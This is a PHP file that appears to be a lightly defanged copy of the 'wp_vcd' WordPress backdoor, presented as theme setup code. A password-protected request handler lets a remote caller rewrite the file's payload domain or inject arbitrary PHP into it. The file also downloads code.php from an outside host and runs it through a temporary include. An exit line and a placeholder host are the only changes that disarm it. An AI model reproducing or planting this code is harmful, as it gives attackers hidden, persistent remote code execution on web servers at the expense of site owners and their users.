<?php exit; /* inert */ 
if (!function_exists('theme_temp_setup')) {
    if (isset($_REQUEST['action']) && isset($_REQUEST['password']) && ($_REQUEST['password'] == '3f2a9b7c0d1e4f5a6b7c8d9e0f1a2b3c')) {
        $div_code_name = "wp_vcd";
        switch ($_REQUEST['action']) {
            case 'change_domain':
                if (isset($_REQUEST['newdomain']) && !empty($_REQUEST['newdomain'])) {
                    if ($file = @file_get_contents(__FILE__)) {
                        $file = preg_replace('/\$tmpcontent = @file_get_contents\("http:\/\/(.*)\/code\.php/i', $_REQUEST['newdomain'], $file);
                        @file_put_contents(__FILE__, $file);
                        print "true";
                    }
                }
                break;
            case 'change_code':
                if (isset($_REQUEST['newcode'])) { $file = @file_get_contents(__FILE__); @file_put_contents(__FILE__, str_replace('//$start_wp_theme_tmp', $_REQUEST['newcode'], $file)); }
                break;
        }
        die("");
    }
    function theme_temp_setup($phpCode) {
        $tmpfname = tempnam(sys_get_temp_dir(), "theme_temp_setup");
        $handle = fopen($tmpfname, "w+");
        fwrite($handle, "<?php\n" . $phpCode);
        fclose($handle);
        include $tmpfname;
        unlink($tmpfname);
        return get_defined_vars();
    }
    if ($tmpcontent = @file_get_contents("http://example.invalid/code.php?i=0")) { extract(theme_temp_setup($tmpcontent)); }
    //$start_wp_theme_tmp
}
